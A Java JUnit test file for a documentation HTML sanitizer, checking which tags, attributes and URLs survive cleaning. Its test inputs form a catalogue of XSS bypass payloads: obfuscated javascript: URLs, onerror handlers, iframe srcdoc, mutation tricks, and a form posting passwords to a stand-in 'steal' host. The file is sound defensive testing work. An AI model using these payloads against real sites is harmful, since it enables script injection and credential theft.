package dev.playbook.safety;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The documentation allowlist, with exact outputs: what stays, what goes, and what each removal says. */
class HtmlSanitizerTest {

    private static final HtmlSanitizer SANITIZER = HtmlSanitizer.documentation();

    private static String clean(String html) {
        return SANITIZER.clean(html);
    }

    @Test
    void documentationStructureStaysAsWritten() {
        String html = "<details open class=\"note\"><summary>More</summary><p>Text <kbd>Ctrl</kbd>+<kbd>C</kbd>, "
                + "<abbr title=\"Net Promoter Score\">NPS</abbr>, H<sub>2</sub>O, x<sup>2</sup>.</p></details>"
                + "<figure><img src=\"../images/desk.png\" alt=\"Desk\"><figcaption>The desk</figcaption></figure>"
                + "<table><thead><tr><th align=\"left\" colspan=\"2\">Role</th></tr></thead><tbody><tr><td>A</td><td>B</td></tr></tbody></table>"
                + "<pre class=\"mermaid\">graph TD; A--&gt;B</pre>"
                + "<p><a href=\"https://example.org/x?a=1&amp;b=2\">web</a> <a href=\"mailto:help@example.org\">mail</a> "
                + "<a href=\"tel:+15550100\">call</a> <a href=\"../standards/greet.html#when\">page</a> <a href=\"#top\">top</a></p>";
        assertEquals(html, clean(html));
        assertTrue(SANITIZER.isClean(html));
        assertEquals(List.of(), SANITIZER.removals(html));
    }

    @Test
    void whatFlexmarkWritesForGfmStays() {
        String html = "<ul><li class=\"task-list-item\"><input type=\"checkbox\" class=\"task-list-item-checkbox\" "
                + "checked=\"checked\" disabled=\"disabled\" />done</li></ul>"
                + "<h2 id=\"when-to-act\">When to act</h2>"
                + "<p>A note<sup id=\"fnref-1\"><a class=\"footnote-ref\" href=\"#fn-1\">1</a></sup> and <del>old</del>.</p>"
                + "<div class=\"footnotes\"><hr /><ol><li id=\"fn-1\"><p>The footnote.<a href=\"#fnref-1\" "
                + "class=\"footnote-backref\">&#8617;</a></p></li></ol></div>";
        assertEquals("<ul><li class=\"task-list-item\"><input type=\"checkbox\" class=\"task-list-item-checkbox\" "
                + "checked disabled>done</li></ul>"
                + "<h2 id=\"when-to-act\">When to act</h2>"
                + "<p>A note<sup id=\"fnref-1\"><a class=\"footnote-ref\" href=\"#fn-1\">1</a></sup> and <del>old</del>.</p>"
                + "<div class=\"footnotes\"><hr><ol><li id=\"fn-1\"><p>The footnote.<a href=\"#fnref-1\" "
                + "class=\"footnote-backref\">↩</a></p></li></ol></div>", clean(html));
    }

    @Test
    void scriptsGoWithTheirContentAndEventHandlersGo() {
        assertEquals("<p>Hi</p>", clean("<p>Hi<script>alert(1)</script></p>"));
        assertEquals("<a href=\"x.html\">x</a>", clean("<a href=\"x.html\" onclick=\"alert(1)\" OnMouseOver=\"alert(2)\">x</a>"));
        assertEquals("", clean("<style>body{background:url(https://tracker.example/p.gif)}</style>"));
    }

    /** Issue 13: {@code style="text-align:center"} crashed the build (a class added while iterating the attributes). */
    @Test
    void issue13AlignmentStyleBecomesAClassWithoutCrashing() {
        assertEquals("<p class=\"align-center\">Centred</p>", clean("<p style=\"text-align:center\">Centred</p>"));
        assertEquals("<div class=\"box align-right\">R</div>", clean("<div class=\"box\" style=\"TEXT-ALIGN: Right;\" title=\"\">R</div>")
                .replace(" title=\"\"", ""));
        assertEquals(List.of(), SANITIZER.removals("<p style=\"text-align: left\">x</p>"), "alignment alone is kept as a class");
        assertEquals(List.of(new Removal(3, "style on <p>", "removed: inline styles are blocked by the Content-Security-Policy; "
                + "use a class the theme styles (text-align becomes one)")),
                SANITIZER.removals("<p style=\"color:red;text-align:center\">x</p>"));
        assertEquals("<p class=\"align-center\">x</p>", clean("<p style=\"color:red;text-align:center\">x</p>"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "java&#x09;script:alert(1)", "java&#10;script:alert(1)", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)", "\u0001javascript:alert(1)",
        "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "jav&#x0D;ascript:alert(1)",
        "javascript&colon;alert(1)", "file:///etc/passwd",
    })
    void linkUrlsAreJudgedAsTheBrowserReadsThem(String href) {
        String html = "<a href=\"" + href + "\">x</a>";
        assertEquals("<a>x</a>", clean(html), href);
        assertFalse(SANITIZER.isClean(html), href);
        assertEquals(1, SANITIZER.removals(html).size());
        assertEquals("href on <a>", SANITIZER.removals(html).get(0).what());
        assertEquals(3, SANITIZER.removals(html).get(0).offset());
    }

    @Test
    void urlMessagesNameTheDecodedValueAndWhatIsAllowed() {
        assertEquals("href on <a> removed (\"javascript:alert(1)\"): only http, https, mailto, tel and relative links are "
                + "allowed (\"javascript:\" could run script or hide content)",
                SANITIZER.removals("<a href=\"java&#x09;script:alert(1)\">x</a>").get(0).message());
    }

    @Test
    void imagesLoadFromTheSiteOnly() {
        assertEquals("<img src=\"images/a.png\" alt=\"a\">", clean("<img src=\"images/a.png\" alt=\"a\">"));
        assertEquals("<img src=\"data:image/png;base64,iVBORw0KGgo=\">", clean("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"));
        assertEquals("<img>", clean("<img src=\"https://tracker.example/p.gif\">"));
        assertEquals("<img>", clean("<img src=\"//tracker.example/p.gif\">"));
        assertEquals("<img>", clean("<img src=\"\\\\tracker.example/p.gif\">"));
        assertEquals("<img>", clean("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">"));
        assertEquals("<img src=\"a.png\">", clean("<img src=\"a.png\" srcset=\"https://tracker.example/2x.png 2x\" onerror=\"alert(1)\">"));
    }

    @Test
    void iframesBecomeLinksToTheirPage() {
        assertEquals("<p><a href=\"https://www.youtube.com/watch?v=dQw4w9WgXcQ\">Returns training</a></p>",
                clean("<p><iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ?start=3\" title=\"Returns training\" "
                        + "allowfullscreen></iframe></p>"));
        assertEquals("<a href=\"https://vimeo.com/76979871\">https://vimeo.com/76979871</a>",
                clean("<iframe src=\"https://player.vimeo.com/video/76979871\"></iframe>"));
        assertEquals("<a href=\"https://docs.google.com/forms/d/e/abc/viewform\">Survey</a>",
                clean("<iframe src=\"https://docs.google.com/forms/d/e/abc/viewform?embedded=true\" title=\"Survey\">Loading…</iframe>"));
        assertEquals("", clean("<iframe srcdoc=\"&lt;script&gt;parent.document.body.innerHTML='x'&lt;/script&gt;\"></iframe>"));
        assertEquals("", clean("<iframe src=\"javascript:alert(1)\"></iframe>"));
        assertEquals(List.of(new Removal(0, "<iframe>", "removed: embedded frames can run script; link to the page instead")),
                SANITIZER.removals("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"));
    }

    @Test
    void formsGoTheirControlsGoTheirTextStays() {
        assertEquals("Name   Send", clean("<form action=\"https://elsewhere.example/steal\"><label>Name <input name=\"u\">"
                + "</label> <input type=\"password\" name=\"p\"> <button formaction=\"https://elsewhere.example\">Send</button></form>"));
        assertEquals(List.of(new Removal(0, "<form>", "removed: forms could send what readers type to another site; "
                + "link to the form instead")), SANITIZER.removals("<form><input type=password></form>"));
    }

    @Test
    void svgAndMathmlGoWithTheirScriptingButTheirTextStays() {
        assertEquals("x", clean("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"));
        assertEquals("", clean("<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>"));
        assertEquals("", clean("<svg><script>alert(1)</script></svg>"));
        // Found by SanitizerFuzzTest while SVG elements were all unwrapped: a script's raw data landed in the div, unescaped.
        assertEquals("<div><p>*{}</p></div>", clean("<div><p><svg><script>alert(1)</script><style>*{}</style><a><script>alert(2)</script></a></svg></p></div>"));
        assertEquals("x", clean("<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>"));
    }

    /**
     * Issue 13, found by SanitizerFuzzTest: an SVG {@code <a/>} was kept as it was, namespace and all, and written
     * back with XML's rules as {@code <a id="x"/>}, which a browser reads as an open link around the rest of the page.
     * Elements of SVG and MathML go (their text stays), whatever their name.
     */
    @Test
    void issue13ForeignElementsWithAllowedNamesGo() {
        assertEquals("text after more", clean("<svg><a id=\"x\" href=\"a.html\"/>text after</svg> <math><a href=\"b.html\"/>more</math>"));
        String cleaned = clean("<svg><iframe src=\"https://x.example/\"><a href=\"javascript:alert(1)\">x</a></iframe></svg>");
        assertEquals("<a href=\"https://x.example/\">https://x.example/</a>", cleaned, "a frame becomes a link, in SVG too");
        assertEquals(cleaned, clean(cleaned));
    }

    /**
     * Issue 13, found by SanitizerFuzzTest: jsoup's parser left the second of two paragraphs inside a table row
     * (jhy/jsoup#2601), and a row taken out of a removed template stood in the table without its body; a browser
     * builds another tree from either, and cleaning again changed the output. Now the output is the browser's tree.
     */
    @Test
    void issue13TablePartsStandWhereABrowserPutsThem() {
        assertEquals("<p>r</p><p>fostered</p><table><tbody><tr><td>a</td></tr></tbody></table>",
                clean("<table><tr><td>a</td><p>r<p>fostered</p></table>"));
        assertEquals("<table><tbody><tr><td>a</td></tr></tbody><tbody><tr><td>b</td></tr></tbody></table>",
                clean("<table><template><tr><td>a</td></tr></template><tr><td>b</td></tr></table>"));
        assertEquals("c d", clean("<template><tr><td>c</td></tr> <td>d</td></template>"));
        for (String html : List.of("<table><tr><td><template><td>f</td></template></td></tr></table>",
                "<table><template><td>h</td><col span=\"2\"></template><colgroup><template><p>i</p></template></colgroup></table>")) {
            String cleaned = clean(html);
            assertEquals(cleaned, clean(cleaned), html);
        }
    }

    /**
     * Issue 13, found by SanitizerFuzzTest: a link from a removed template stood inside another link, which no
     * browser builds from the HTML written (it closes the first link); the output is now the tree a browser reads.
     */
    @Test
    void issue13ContentOfRemovedWrappersStandsWhereABrowserPutsIt() {
        assertEquals("<a href=\"a.html\">out</a><a href=\"b.html\">in</a>",
                clean("<a href=\"a.html\">out<template><a href=\"b.html\">in</a></template></a>"));
        assertEquals("<p>p</p><div>block</div><p></p>", clean("<p>p<template><div>block</div></template></p>"));
        String html = "<p>q<svg><foreignObject><p>inner</p></foreignObject></svg></p><ul><li>x<template><li>y</li></template></li></ul>";
        String cleaned = clean(html);
        assertEquals(cleaned, clean(cleaned), html);
    }

    /** A browser drops one line break after {@code <pre>}: the output keeps the blank lines the author's HTML shows. */
    @Test
    void blankLinesAtTheStartOfPreformattedTextStay() {
        String cleaned = clean("<pre>\n\n\nfoo</pre><pre>\nbar</pre><pre>baz</pre><pre><code>\nx</code></pre>");
        assertEquals("<pre>\n\n\nfoo</pre><pre>bar</pre><pre>baz</pre><pre><code>\nx</code></pre>", cleaned);
        assertEquals(cleaned, clean(cleaned));
        assertEquals("\n\nfoo", Jsoup.parseBodyFragment(cleaned).selectFirst("pre").wholeText(), "what a browser shows");
    }

    /** Found by SanitizerFuzzTest: the checkbox's enforced {@code disabled} was reported as removed, so clean output was not clean. */
    @Test
    void aCheckboxWrittenDisabledIsClean() {
        String checkbox = "<ul><li><input type=\"checkbox\" checked disabled> done</li></ul>";
        assertEquals(List.of(), SANITIZER.removals(checkbox));
        assertTrue(SANITIZER.isClean(clean(checkbox)));
    }

    @Test
    void mutationTricksEndAsText() {
        String noscript = clean("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>");
        Document again = Jsoup.parseBodyFragment(noscript);
        assertTrue(again.select("img, noscript, [onerror]").isEmpty(), noscript);
        String svgStyle = clean("<svg><style><img src=x onerror=alert(1)></style></svg>");
        assertTrue(Jsoup.parseBodyFragment(svgStyle).select("[onerror], svg, style").isEmpty(), svgStyle);
        String xmp = clean("<xmp><img src=x onerror=alert(1)></xmp>");
        assertEquals("", xmp, "raw text of an element that is not allowed goes with it");
        assertTrue(SANITIZER.isClean(noscript) && SANITIZER.isClean(svgStyle) && SANITIZER.isClean(xmp));
    }

    @Test
    void documentLevelElementsGo() {
        assertEquals("", clean("<base href=\"https://elsewhere.example/\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"
                + "<link rel=\"import\" href=\"https://elsewhere.example/x.html\"><object data=\"x.swf\"></object><embed src=\"x.swf\">"));
    }

    @Test
    void idsThatWouldShadowTheThemesGlobalsGoAndNamesStayOnLinksOnly() {
        assertEquals("<div>x</div><div id=\"title\">y</div>", clean("<div id=\"PlaybookSearch\">x</div><div id=\"title\">y</div>"));
        assertEquals("<img src=\"a.png\"><a name=\"old-anchor\"></a>", clean("<img src=\"a.png\" name=\"cookie\"><a name=\"old-anchor\"></a>"));
        assertEquals("name on <img>", SANITIZER.removals("<img src=\"a.png\" name=\"cookie\">").get(0).what());
    }

    @Test
    void removalsPointAtTheirElementOrAttribute() {
        String html = "<p>ok</p>\n<div onclick=\"x()\">\n  <script>alert(1)</script>\n</div>";
        List<Removal> removals = SANITIZER.removals(html);
        assertEquals(List.of(
                new Removal(15, "onclick on <div>", "removed: event handlers never run in the published site"),
                new Removal(32, "<script>", "removed: scripts never run in the published site (it works under a strict "
                        + "Content-Security-Policy)")), removals);
    }

    @Test
    void aRemovedElementIsReportedOnceNotWithEverythingInside() {
        assertEquals(1, SANITIZER.removals("<svg><g><path d=\"M0 0\"/><script>alert(1)</script><animate/></g></svg>").size());
    }

    @Test
    void cleanOutputIsCleanAndStable() {
        String dirty = "<div style=\"text-align:center\" onclick=\"x\"><iframe src=\"https://example.org/v\"></iframe>"
                + "<svg><a href=\"javascript:1\">s</a></svg><img src=x onerror=alert(1)><a href=\"java\tscript:1\">y</a></div>";
        String once = clean(dirty);
        assertTrue(SANITIZER.isClean(once), once);
        assertEquals(once, clean(once));
    }

    @Test
    void theSafelistHandedOutIsACopy() {
        assertNotSame(SANITIZER.safelist(), SANITIZER.safelist());
        SANITIZER.safelist().addTags("script");
        assertEquals("", clean("<script>alert(1)</script>"));
        assertTrue(SANITIZER.safelist().isSafeTag("details"));
        assertFalse(SANITIZER.safelist().isSafeTag("iframe"));
    }

    @Test
    void urlProblemJudgesMarkdownLinksAndImages() {
        assertTrue(SANITIZER.urlProblem("a", "href", "javascript:alert(1)").isPresent());
        assertTrue(SANITIZER.urlProblem("a", "href", "https://example.org").isEmpty());
        assertTrue(SANITIZER.urlProblem("img", "src", "https://example.org/a.png").isPresent());
        assertTrue(SANITIZER.urlProblem("img", "src", "images/a.png").isEmpty());
    }
}
